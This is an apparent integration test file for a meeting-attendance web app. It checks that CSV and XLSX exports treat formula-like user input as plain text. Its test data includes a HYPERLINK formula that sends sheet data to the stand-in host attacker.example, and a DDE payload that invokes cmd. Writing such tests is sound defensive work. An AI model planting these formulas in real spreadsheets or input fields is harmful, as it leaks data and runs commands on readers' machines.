"""The attendance report never runs what people typed (issue #14, item 2): a check-in reason, a
meeting title or a chair's name that starts like a formula is plain text in `attendance.xlsx` and
`attendance.csv`, and a title stored with a control character before input was checked still
exports (it made `attendance.xlsx` answer 500 for good)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient
from openpyxl import load_workbook

from confhub.demo import DemoSeed
from tests.helpers.rows import store_title

pytestmark = pytest.mark.integration

CAM_TU = 15148
# The check from issue #14: a link holder's "reason" that becomes a live link in the workbook.
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B3,"Xem danh sách")'
# Columns of the attendance report.
UNIT_CODE, CHAIR, CHAIR_TITLE, REASON = 0, 3, 4, 7


def cam_tu_point(client: TestClient[Litestar], meeting_id: int) -> int:
    """The point id of Xã Cẩm Tú at a meeting."""
    points = client.get(f"/api/v1/meetings/{meeting_id}/points", params={"limit": 500})
    assert points.status_code == 200, points.text
    return next(p["point_id"] for p in points.json()["items"] if p["unit_code"] == CAM_TU)


def checkin(client: TestClient[Litestar], meeting_id: int, **fields: Any) -> Any:
    """POST a roll-call answer for Xã Cẩm Tú."""
    body = {"point_id": cam_tu_point(client, meeting_id), **fields}
    return client.post(f"/api/v1/meetings/{meeting_id}/checkins", json=body)


def xlsx_rows(client: TestClient[Litestar], meeting_id: int) -> list[list[Any]]:
    """attendance.xlsx as openpyxl cells, row by row."""
    response = client.get(f"/api/v1/meetings/{meeting_id}/attendance.xlsx")
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def csv_rows(client: TestClient[Litestar], meeting_id: int) -> list[list[str]]:
    """attendance.csv as text cells, row by row."""
    response = client.get(f"/api/v1/meetings/{meeting_id}/attendance.csv")
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def cam_tu_row(rows: list[list[Any]]) -> list[Any]:
    """The report's row of Xã Cẩm Tú (cells or text)."""
    return next(row for row in rows if getattr(row[0], "value", row[0]) in (CAM_TU, str(CAM_TU)))


def test_a_formula_in_a_reason_is_plain_text_in_both_spreadsheets(
    secretariat: TestClient[Litestar], demo_seed: DemoSeed
) -> None:
    meeting_id = demo_seed.upcoming_meeting_id
    answer = checkin(
        secretariat, meeting_id, status="absent", reason=HYPERLINK, idempotency_key="formula-1"
    )
    assert answer.status_code == 201, answer.text

    cell = cam_tu_row(xlsx_rows(secretariat, meeting_id))[REASON]
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value == "'" + HYPERLINK
    assert cam_tu_row(csv_rows(secretariat, meeting_id))[REASON] == "'" + HYPERLINK


def test_titles_and_chairs_never_run_in_the_attendance_report(
    secretariat: TestClient[Litestar], demo_seed: DemoSeed
) -> None:
    meeting_id = demo_seed.upcoming_meeting_id
    title = "=1+2"
    name, position = "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 Chủ tịch"
    changed = secretariat.patch(f"/api/v1/meetings/{meeting_id}", json={"title": title})
    assert changed.status_code == 200, changed.text
    point = cam_tu_point(secretariat, meeting_id)
    chair = secretariat.put(
        f"/api/v1/meetings/{meeting_id}/points/{point}/chair",
        json={"name": name, "title": position, "phone": "+84 912 345 678"},
    )
    assert chair.status_code == 200, chair.text

    rows = xlsx_rows(secretariat, meeting_id)
    cells = [rows[0][0], cam_tu_row(rows)[CHAIR], cam_tu_row(rows)[CHAIR_TITLE]]
    assert [c.value for c in cells] == ["'" + title, "'" + name, "'" + position]
    assert {c.data_type for c in cells} == {"s"}
    assert cam_tu_row(rows)[UNIT_CODE].data_type == "n"  # numbers stay numbers
    table = csv_rows(secretariat, meeting_id)
    assert cam_tu_row(table)[CHAIR : CHAIR_TITLE + 1] == ["'" + name, "'" + position]


def test_a_title_stored_with_a_control_character_still_exports(
    secretariat: TestClient[Litestar], demo_seed: DemoSeed, demo_db: str
) -> None:
    meeting_id = demo_seed.upcoming_meeting_id
    store_title(demo_db, meeting_id, "Hội nghị\x01 trực tuyến\x0b")

    assert xlsx_rows(secretariat, meeting_id)[0][0].value == "Hội nghị\ufffd trực tuyến\ufffd"
    assert csv_rows(secretariat, meeting_id)[0][0] == "Mã đơn vị"  # the CSV still answers too
